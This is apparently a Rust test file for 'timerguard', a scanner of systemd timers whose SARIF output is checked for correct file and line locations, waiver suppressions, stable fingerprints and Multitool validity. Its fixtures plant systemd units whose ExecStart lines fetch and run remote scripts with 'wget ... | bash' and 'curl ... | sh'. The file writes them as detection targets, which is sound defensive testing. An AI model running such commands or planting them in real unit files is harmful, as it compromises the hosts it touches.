//! SARIF 2.1.0 for code scanning: validated by Microsoft's SARIF Multitool (`--rule-kind
//! "Sarif;Gh"`, GitHub's ingestion rules included) with zero errors; every result on the
//! right file (relative to the root) and the line of the setting that caused it; waived
//! findings as suppressions with their reason; fingerprints that survive a moved line.

use std::process::Command;

use serde_json::Value;

use crate::common::*;

fn planted() -> Fx {
    let fx = crate::common::planted();
    fx.file(
        "/etc/tg.yaml",
        "waivers:\n  - { policy: TG201, subject: \"*alice\", reason: on-call account, expires: 2999-01-01 }\n",
    );
    // A drop-in overriding the command: the finding must point into the drop-in.
    fx.file(
        "/etc/systemd/system/backup.timer",
        "[Unit]\nDescription=b\n[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
    )
    .file("/etc/systemd/system/backup.service", "[Service]\nExecStart=/usr/bin/true\n")
    .file(
        "/etc/systemd/system/backup.service.d/override.conf",
        "# local change\n[Service]\nExecStart=\nExecStart=/bin/bash -c 'wget -qO- http://203.0.113.9/x | bash'\n",
    )
    .link("/etc/systemd/system/timers.target.wants/backup.timer", "../backup.timer");
    fx
}

fn run(fx: &Fx, format: &str) -> (i32, String) {
    let cfg = fx.host_path("/etc/tg.yaml").display().to_string();
    let o = fx.cli(&["--config", &cfg, "check", "--format", format]);
    (o.status.code().unwrap(), String::from_utf8_lossy(&o.stdout).into_owned())
}

fn sarif(fx: &Fx) -> Value {
    let (code, out) = run(fx, "sarif");
    assert_eq!(code, 1, "SARIF gates like every other format");
    serde_json::from_str(&out).unwrap()
}

#[test]
fn results_sit_on_the_right_file_and_line() {
    let fx = planted();
    let doc = sarif(&fx);
    assert_eq!(doc["version"], "2.1.0");
    let run0 = &doc["runs"][0];
    let driver = &run0["tool"]["driver"];
    assert_eq!(driver["name"], "timerguard");
    assert_eq!(driver["version"], env!("CARGO_PKG_VERSION"));
    assert!(driver["informationUri"].as_str().unwrap().starts_with("https://"));
    let root = std::fs::canonicalize(fx.path()).unwrap();
    assert_eq!(run0["originalUriBaseIds"]["ROOT"]["uri"], format!("file://{}/", root.display()));
    let rules = driver["rules"].as_array().unwrap();
    assert_eq!(rules.len(), timerguard::policy::builtin_ids().len(), "one rule per policy that ran");
    for r in rules {
        for k in ["shortDescription", "fullDescription", "help"] {
            assert!(!r[k]["text"].as_str().unwrap().is_empty(), "{k} of {}", r["id"]);
        }
        assert!(r["properties"]["security-severity"].as_str().unwrap().parse::<f64>().is_ok());
    }

    // The same findings as the JSON report, one result each, located where it says.
    let json: Value = serde_json::from_str(&run(&fx, "json").1).unwrap();
    let findings = json["findings"].as_array().unwrap();
    let results = run0["results"].as_array().unwrap();
    assert_eq!(results.len(), findings.len());
    for (res, f) in results.iter().zip(findings) {
        assert_eq!(res["ruleId"], f["policy"]);
        let i = res["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[i]["id"], res["ruleId"], "ruleIndex points at the rule");
        let loc = &res["locations"][0]["physicalLocation"];
        assert_eq!(loc["artifactLocation"]["uriBaseId"], "ROOT");
        let uri = loc["artifactLocation"]["uri"].as_str().unwrap();
        assert!(!uri.starts_with('/'), "relative to the root: {uri}");
        assert_eq!(format!("/{uri}"), f["path"].as_str().unwrap());
        assert!(fx.host_path(&format!("/{uri}")).exists(), "{uri} exists in the root");
        if let Some(line) = loc["region"]["startLine"].as_u64() {
            assert_eq!(Some(line), f["line"].as_u64());
            let text = std::fs::read_to_string(fx.host_path(&format!("/{uri}"))).unwrap();
            let at = text.lines().nth(line as usize - 1).unwrap();
            assert!(at.contains('=') && !at.starts_with('#'), "line {line} of {uri} is a setting: {at:?}");
        }
    }
    // The payload in the drop-in is reported there, at its ExecStart= line.
    let dropin = results
        .iter()
        .find(|r| r["ruleId"] == "TG303" && r["message"]["text"].as_str().unwrap().contains("backup"))
        .expect("the drop-in payload is found");
    let loc = &dropin["locations"][0]["physicalLocation"];
    assert_eq!(loc["artifactLocation"]["uri"], "etc/systemd/system/backup.service.d/override.conf");
    assert_eq!(loc["region"]["startLine"], 4);
    let beacon = results
        .iter()
        .find(|r| r["ruleId"] == "TG303" && r["message"]["text"].as_str().unwrap().contains("beacon"))
        .unwrap();
    assert_eq!(beacon["locations"][0]["physicalLocation"]["region"]["startLine"], 2);
    assert_eq!(beacon["level"], "error");

    // Waived: a suppression carrying the reason; everything else unsuppressed.
    for r in results {
        let waived = r["ruleId"] == "TG201";
        assert_eq!(r.get("suppressions").is_some(), waived, "{}", r["ruleId"]);
        if waived {
            assert_eq!(r["suppressions"][0]["kind"], "external");
            assert!(r["suppressions"][0]["justification"].as_str().unwrap().contains("on-call account"));
        }
    }
}

#[test]
fn fingerprints_survive_a_moved_line_and_differ_between_findings() {
    let fx = planted();
    let fps = |doc: &Value| -> Vec<String> {
        doc["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["partialFingerprints"]["timerguard/v1"].as_str().unwrap().to_string())
            .collect()
    };
    let before = fps(&sarif(&fx));
    let mut uniq = before.clone();
    uniq.sort();
    uniq.dedup();
    assert_eq!(uniq.len(), before.len(), "distinct findings, distinct fingerprints");
    // Two comment lines push the payload down; the finding is the same one.
    fx.file(
        "/etc/systemd/system/beacon.service",
        "# moved\n# down\n[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
    );
    let after = sarif(&fx);
    let line = after["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["message"]["text"].as_str().unwrap().contains("beacon"))
        .unwrap()["locations"][0]["physicalLocation"]["region"]["startLine"]
        .clone();
    assert_eq!(line, 4, "the location follows the line");
    assert_eq!(fps(&after), before, "the fingerprint does not");
}

/// Microsoft's SARIF Multitool, with GitHub's rules: zero errors on a root with findings
/// (waived, drop-in, located and unlocated), and on a clean root.
#[test]
fn multitool_validates_with_zero_errors() {
    let Ok(tool) = std::env::var("TIMERGUARD_SARIF_MULTITOOL") else {
        skip("TIMERGUARD_SARIF_MULTITOOL not set (scripts/test.sh installs it from npm)");
        return;
    };
    let clean = Fx::new();
    clean.debian_layout().file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    for (name, fx) in [("planted", planted()), ("clean", clean)] {
        let file = fx.path().join("out.sarif");
        let o = fx.cli(&["check", "--report", &format!("sarif={}", file.display())]);
        assert!(o.status.code().unwrap() <= 1, "{name}");
        let log = fx.path().join("validation.sarif");
        let o = Command::new(&tool)
            .args(["validate", "--rule-kind", "Sarif;Gh", "--log", "ForceOverwrite", "-o"])
            .arg(&log)
            .arg(&file)
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&o.stdout);
        assert!(o.status.success(), "{name}: Multitool failed: {said}");
        let v: Value = serde_json::from_str(&std::fs::read_to_string(&log).unwrap()).unwrap();
        let problems = v["runs"][0]["results"].as_array().cloned().unwrap_or_default();
        let rules = v["runs"][0]["tool"]["driver"]["rules"].clone();
        // SARIF §3.27.10: an absent level is the rule's default level, else "warning".
        let level = |r: &Value| -> String {
            let default = &rules[r["ruleIndex"].as_u64().unwrap_or(u64::MAX) as usize]["defaultConfiguration"]["level"];
            r["level"].as_str().or(default.as_str()).unwrap_or("warning").to_string()
        };
        let errors: Vec<&Value> = problems.iter().filter(|r| level(r) == "error").collect();
        assert!(errors.is_empty(), "{name}: Multitool errors: {errors:#?}\n{said}");
        assert!(!said.contains(": error "), "{name}: {said}");
    }
}
